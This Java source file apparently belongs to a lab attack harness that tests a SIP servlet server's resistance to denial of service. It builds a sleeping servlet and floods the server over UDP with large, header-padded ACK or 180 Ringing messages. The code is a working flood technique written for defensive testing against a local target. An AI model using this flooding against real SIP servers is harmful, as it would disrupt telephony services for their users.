package io.carillon.it.attack;

import io.carillon.lab.rig.PackedClasses;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.locks.LockSupport;

/**
 * Large messages for calls whose handler sleeps ({@link SleepingServlet}): half of them the same
 * again and again, half of them new. They belong to no transaction of the server that would count
 * them.
 */
final class BusyCalls extends Attack {
    /** What is sent while the handler sleeps. */
    enum Kind {
        /** ACKs of calls that it answered. */
        ACKS,
        /** 180s to calls that it made. */
        RINGING
    }

    private static final int PER_SECOND = 440;
    private static final long ANSWER_NANOS = 5_000_000_000L;

    /** 56 kB in headers that are short enough each. */
    private static final String LARGE = ("X-Large: " + "x".repeat(14_000) + "\n").repeat(4);

    /** Stands for the number that makes a message new. */
    private static final String NUMBER = "0000001";

    private final Kind kind;
    private final int calls;

    /** A message of one call. Owner: the attack's thread. */
    private static final class Numbered {
        private final byte[] bytes;
        private final int at;

        Numbered(String text) {
            bytes = wire(text);
            at = new String(bytes, StandardCharsets.ISO_8859_1).indexOf(NUMBER);
        }

        /** The array is the same each time. */
        byte[] of(long number) {
            long rest = number;
            for (int i = NUMBER.length() - 1; i >= 0; i--) {
                bytes[at + i] = (byte) ('0' + rest % 10);
                rest /= 10;
            }
            return bytes;
        }
    }

    BusyCalls(String id, String what, Kind kind, int calls) {
        super(id, what, Door.SIP);
        this.kind = kind;
        this.calls = calls;
    }

    /**
     * Writes the application that it attacks; {@link Prey#router} gives it its calls.
     *
     * @param seconds that an attack lasts, and a handler sleeps
     */
    static Path archive(Path folder, int seconds) throws IOException {
        String descriptor =
                """
                <?xml version="1.0" encoding="UTF-8"?>
                <sip-app xmlns="http://www.jcp.org/xml/ns/sipservlet"
                         xmlns:javaee="http://java.sun.com/xml/ns/javaee" version="1.1">
                  <app-name>sleeping</app-name>
                  <javaee:context-param>
                    <javaee:param-name>millis</javaee:param-name>
                    <javaee:param-value>%d</javaee:param-value>
                  </javaee:context-param>
                  <servlet-selection><main-servlet>sleeping</main-servlet></servlet-selection>
                  <servlet>
                    <javaee:servlet-name>sleeping</javaee:servlet-name>
                    <javaee:servlet-class>io.carillon.it.attack.SleepingServlet</javaee:servlet-class>
                  </servlet>
                </sip-app>
                """
                        .formatted(seconds * 1000L);
        return PackedClasses.war(
                folder.resolve("sleeping.war"), descriptor, List.of(SleepingServlet.class));
    }

    @Override
    long run(Target target, long untilNanos) throws IOException {
        try (DatagramChannel channel = target.datagrams(0)) {
            List<Numbered> floods = new ArrayList<>();
            List<byte[]> ends = new ArrayList<>();
            for (int i = 0; i < calls; i++) {
                begin(target, channel, i, floods, ends);
            }
            long sent = 0;
            Pace pace = new Pace(PER_SECOND, untilNanos);
            for (int due = pace.due(); due >= 0; due = pace.due()) {
                for (int i = 0; i < due; i++, sent++) {
                    int call = (int) (sent / 2 % calls);
                    byte[] message = floods.get(call).of(sent % 2 == 0 ? 1 : sent);
                    channel.send(ByteBuffer.wrap(message), target.server());
                }
                drain(channel);
            }
            for (byte[] end : ends) {
                channel.send(ByteBuffer.wrap(end), target.server());
            }
            return sent;
        }
    }

    private void begin(
            Target target,
            DatagramChannel channel,
            int number,
            List<Numbered> floods,
            List<byte[]> ends)
            throws IOException {
        InetSocketAddress own = (InetSocketAddress) channel.getLocalAddress();
        String host = own.getAddress().getHostAddress() + ":" + own.getPort();
        String id = target.network() + "-" + number + "@" + host;
        if (kind == Kind.ACKS) {
            send(target, channel, request("INVITE", host, id, "", "1"));
            String ok = await(channel, "SIP/2.0 200");
            String tag = line(ok, "To: ").replaceFirst(".*;tag=", ";tag=");
            floods.add(
                    new Numbered(
                            request("ACK", host, id, tag, NUMBER)
                                    .replace("Content-Length", LARGE + "Content-Length")));
            return;
        }
        String call = SleepingServlet.CALL + ": sip:attacker-" + number + "@" + host + "\n";
        send(
                target,
                channel,
                request("MESSAGE", host, id, "", "1")
                        .replace("Content-Length", call + "Content-Length"));
        String invite = await(channel, "INVITE ");
        String answer =
                "Via: "
                        + line(invite, "Via: ")
                        + "\nFrom: "
                        + line(invite, "From: ")
                        + "\nTo: "
                        + line(invite, "To: ")
                        + ";tag=busy\nCall-ID: "
                        + line(invite, "Call-ID: ")
                        + "\nCSeq: "
                        + line(invite, "CSeq: ")
                        + "\n";
        floods.add(
                new Numbered(
                        "SIP/2.0 180 Ringing\n"
                                + answer
                                + "X-Number: "
                                + NUMBER
                                + "\n"
                                + LARGE
                                + "Content-Length: 0\n\n"));
        ends.add(wire("SIP/2.0 486 Busy Here\n" + answer + "Content-Length: 0\n\n"));
    }

    private static String request(String method, String host, String id, String tag, String cseq) {
        return method
                + " sip:asleep@127.0.0.1 SIP/2.0\nVia: SIP/2.0/UDP "
                + host
                + ";branch=z9hG4bK"
                + method
                + id.replace('@', '-').replace(':', '-')
                + "\nMax-Forwards: 70\nFrom: <sip:attacker@127.0.0.1>;tag=attacker\n"
                + "To: <sip:asleep@127.0.0.1>"
                + tag
                + "\nCall-ID: "
                + id
                + "\nCSeq: "
                + cseq
                + ' '
                + method
                + "\nContact: <sip:attacker@"
                + host
                + ">\nContent-Length: 0\n\n";
    }

    private static byte[] wire(String text) {
        return Frames.bytes(text.replace("\n", "\r\n"));
    }

    private static void send(Target target, DatagramChannel channel, String text)
            throws IOException {
        channel.send(ByteBuffer.wrap(wire(text)), target.server());
    }

    /** The first message that begins so; others are not of interest. */
    private static String await(DatagramChannel channel, String start) throws IOException {
        ByteBuffer buffer = ByteBuffer.allocate(65_536);
        long begin = System.nanoTime();
        while (System.nanoTime() - begin < ANSWER_NANOS) {
            buffer.clear();
            if (channel.receive(buffer) == null) {
                LockSupport.parkNanos(1_000_000L);
                continue;
            }
            String text =
                    new String(buffer.array(), 0, buffer.position(), StandardCharsets.ISO_8859_1);
            if (text.startsWith(start)) {
                return text.replace("\r\n", "\n");
            }
        }
        throw new SocketTimeoutException("no " + start + " came from the server");
    }

    private static void drain(DatagramChannel channel) throws IOException {
        ByteBuffer buffer = ByteBuffer.allocate(1);
        while (channel.receive(buffer) != null) {
            buffer.clear();
        }
    }

    private static String line(String message, String name) throws IOException {
        int at = message.indexOf('\n' + name);
        if (at < 0) {
            throw new IOException("no " + name + "in " + message);
        }
        int start = at + 1 + name.length();
        return message.substring(start, message.indexOf('\n', start));
    }
}
